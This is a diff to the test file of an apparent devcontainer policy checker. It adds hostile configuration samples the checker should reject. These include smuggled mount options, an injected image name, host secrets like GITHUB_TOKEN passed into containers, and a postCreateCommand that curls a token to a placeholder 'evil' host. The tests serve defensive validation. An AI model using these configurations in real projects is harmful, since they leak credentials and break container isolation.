@@ -62,13 +62,57 @@ test.for<readonly [string, object, RegExp]>([
     { initializeCommand: ['tcf', 'devcontainer', 'check', '--policy', 'x'] },
     /"initializeCommand" is not/,
   ],
+  [
+    'an empty list of Compose files, for which the CLI takes its own',
+    { dockerComposeFile: [] },
+    /"dockerComposeFile"/,
+  ],
+  ['an empty build', { build: {} }, /"build"/],
+  ['the end of the flags', { runArgs: ['--'] }, /"--" is not a flag/],
+  ['the end of the flags before an image', { runArgs: ['--init', '--', 'evil'] }, /"evil" is not a flag/],
+  [
+    'a folder inside that ends the mounts that name it',
+    { workspaceFolder: '/w,type=bind,source=/', mounts: ['src=x,dst=${containerWorkspaceFolder}/x'] },
+    /"workspaceFolder" is .* could end a mount/,
+  ],
+  ['a folder inside by a variable', { workspaceFolder: '/w${localEnv:CI:,src=/}' }, /could end a mount/],
+  [
+    'a bind of a path that is not absolute',
+    { mounts: ['type=bind,src=data,dst=/x'] },
+    /mounts "data" of the/,
+  ],
+  [
+    'the same as an object',
+    { mounts: [{ type: 'bind', source: 'data', target: '/x' }] },
+    /mounts "data" of the host/,
+  ],
+  [
+    'a target that makes another mount',
+    { runArgs: ['-v', 'x:/x${localEnv:CI}'] },
+    /could make another mount/,
+  ],
+  ['a volume by a variable alone', { runArgs: ['-v', '${localEnv:CI}'] }, /could name a place of the host/],
+  ['a variable of the host', { runArgs: ['-e', 'GITHUB_TOKEN'] }, /"--env=GITHUB_TOKEN" gives the project/],
+  ['all of them', { runArgs: ['-e*'] }, /"--env=\*" gives the project/],
+  ['a file that may name some', { runArgs: ['--env-file=${localWorkspaceFolder}/.env'] }, /--env-file/],
+  [
+    'one among the variables of the container',
+    { containerEnv: { A: 'x${localEnv:GITHUB_TOKEN}' } },
+    /"containerEnv": "--env=GITHUB_TOKEN"/,
+  ],
+  ['one by its other name', { remoteEnv: { A: '${env:AWS_SECRET:x}' } }, /"remoteEnv": "--env=AWS_SECRET"/],
+  [
+    'one in a command',
+    { postCreateCommand: ['curl', 'evil/${localEnv:GITHUB_TOKEN}'] },
+    /"postCreateCommand": "--env=GITHUB_TOKEN"/,
+  ],
   ['a word in the place of the image', { runArgs: ['evil'] }, /would stand in the place of the image/],
   ['an unknown flag', { runArgs: ['--sneaky', 'x'] }, /does not know the flag/],
   ['another root file system', { runArgs: ['--rootfs'] }, /--rootfs/],
   ['a mounted image', { runArgs: ['--mount', 'type=image,src=x,dst=/y'] }, /type=image/],
   [
     'a mounted image that a variable hides',
-    { runArgs: ['--mount=typ${localEnv:NONE}e=image,src=x,dst=/y'] },
+    { runArgs: ['--mount=typ${localEnv:CI}e=image,src=x,dst=/y'] },
     /could make another mount/,
   ],
   ['an image among the mounts', { mounts: ['type=image,source=x,target=/y'] }, /"mounts": .*type=image/],
@@ -80,12 +124,12 @@ test.for<readonly [string, object, RegExp]>([
   ],
   [
     'one that the default of a variable makes',
-    { mounts: ['type=bind,source=${localEnv:NONE:x,typ}e=image,target=/y'] },
+    { mounts: ['type=bind,source=${localEnv:CI:x,typ}e=image,target=/y'] },
     /could make another mount/,
   ],
   [
     'a type by a variable',
-    { mounts: ['type=${localEnv:T},source=x,target=/y'] },
+    { mounts: ['type=${localEnv:CI},source=x,target=/y'] },
     /does not take --mount type=\$/,
   ],
   ['a mount that is a number', { mounts: [1] }, /"mounts": it is not a text/],
@@ -175,9 +219,9 @@ test('pinning keeps comments and everything else', () => {
 });
 
 test('paths in the project are named, since links may lead out of it', () => {
-  const runArgs = ['-v', '${localWorkspaceFolder}/a:/a', '--env-file=${localWorkspaceFolder}/.env'];
+  const runArgs = ['-v', '${localWorkspaceFolder}/a:/a', '--label-file=${localWorkspaceFolder}/labels'];
   const workspaceMount = 'source=${localWorkspaceFolder},target=/w,type=bind';
-  expect(projectPaths(read({ ...good, runArgs, workspaceMount }))).toEqual(['a', '.env', '']);
+  expect(projectPaths(read({ ...good, runArgs, workspaceMount }))).toEqual(['a', 'labels', '']);
 });
 
 describe('the script', () => {
@@ -245,6 +289,12 @@ test.for<readonly [string, string, readonly string[]]>([
   ],
   ['one object', '{"entrypoint":"/x","securityOpt":["seccomp=unconfined"]}', ['entrypoint', 'securityOpt']],
   ['powers that are switched off', '{"privileged":false,"capAdd":[]}', []],
+  ['a key that nobody knows yet', '{"hostCommand":"x"}', ['hostCommand']],
+  [
+    'variables of the host',
+    '{"remoteEnv":{"A":"${localEnv:GITHUB_TOKEN}","B":"${localEnv:HOME}"}}',
+    ['${localEnv:GITHUB_TOKEN}'],
+  ],
   ['what the project asks for itself', '{"capAdd":["SYS_PTRACE"]}', []],
 ])('a label with %s', ([, label, expected]) => {
   expect(powersOfLabel(label, read({ ...good, capAdd: ['SYS_PTRACE'] }))).toEqual(expected);
